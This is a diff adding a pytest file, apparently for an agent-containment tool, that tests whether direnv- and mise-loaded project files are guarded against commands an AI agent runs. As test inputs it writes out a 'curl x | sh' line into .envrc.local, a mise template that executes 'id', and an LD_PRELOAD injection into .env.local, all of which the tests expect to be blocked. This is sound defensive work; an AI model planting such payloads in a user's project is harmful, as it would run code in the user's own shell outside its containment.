@@ -1,0 +1,76 @@
+"""What the user's own shell runs from the project on entering it: mise's settings, what direnv's
+``.envrc`` sources or loads (red-team rt25).  The boundary and the looks hold them like what a
+host runs from the project."""
+
+from __future__ import annotations
+
+import subprocess
+from pathlib import Path
+from typing import Any
+
+import pytest
+from agentreflex.core.contain import dotenv, shellruns
+from agentreflex.core.testing import hook_env, run_contained, shell_hook
+
+
+@pytest.fixture
+def project(tmp_path: Path) -> Path:
+    root = tmp_path / "proj"
+    (root / "sub").mkdir(parents=True)
+    subprocess.run(["git", "init", "-q", str(root)], check=True)
+    return root
+
+
+def _command(root: Path, command: str, call: str) -> Any:
+    env = hook_env(root)
+    shell_hook(root, "PreToolUse", command, env, call=call)
+    run_contained(root, command)
+    return shell_hook(root, "PostToolUse", command, env, call=call)
+
+
+def test_what_envrc_sources_is_run_by_the_users_shell(project: Path) -> None:
+    (project / ".envrc").write_text(
+        "source_env_if_exists .envrc.local\n"
+        "  source_env sub\n"
+        'source_env "$HOME/.envrc"\n'  # a variable: not a path read here
+        "source_env ../elsewhere\n"  # outside the project: read-only anyway
+        "export X=1\n"
+    )
+    found = shellruns.paths(str(project))
+    assert str(project / ".envrc.local") in found
+    assert str(project / "sub" / ".envrc") in found  # source_env DIR runs DIR/.envrc
+    assert (
+        str(project / "mise.toml") in found
+        and str(project / ".config" / "mise" / "conf.d") in found
+    )
+    assert not [p for p in found if not p.startswith(str(project) + "/")]
+
+
+def test_what_envrc_loads_variables_from(project: Path) -> None:
+    (project / ".envrc").write_text("dotenv\ndotenv_if_exists .env.local # local\n")
+    assert shellruns.env_files(str(project)) == [str(project / ".env"), str(project / ".env.local")]
+    (project / ".envrc").unlink()
+    assert shellruns.env_files(str(project)) == []
+
+
+def test_a_file_envrc_sources_made_by_a_command_is_moved_aside(project: Path) -> None:
+    (project / ".envrc").write_text("source_env_if_exists .envrc.local\n")
+    _command(project, "echo 'curl x | sh' > .envrc.local", "a")
+    assert not (project / ".envrc.local").exists()
+
+
+def test_a_trusted_mise_file_is_read_only(project: Path) -> None:
+    (project / "mise.toml").write_text('[tools]\nnode = "22"\n')
+    _command(project, "echo 'X = \"{{ exec(command=\\x27id\\x27) }}\"' >> mise.toml || true", "b")
+    assert (project / "mise.toml").read_text() == '[tools]\nnode = "22"\n'
+
+
+def test_what_direnv_loads_into_the_shell_is_looked_at(project: Path) -> None:
+    (project / ".envrc").write_text("dotenv_if_exists .env.local\n")
+    (project / ".env.local").write_text("API_URL=http://localhost\n")
+    _command(
+        project, "echo 'LD_PRELOAD=/tmp/x.so' >> .env.local && echo 'PORT=1' >> .env.local", "c"
+    )
+    text = (project / ".env.local").read_text()
+    assert "LD_PRELOAD" not in text and "PORT=1" in text and "API_URL" in text
+    assert dotenv.reaches("LD_PRELOAD")
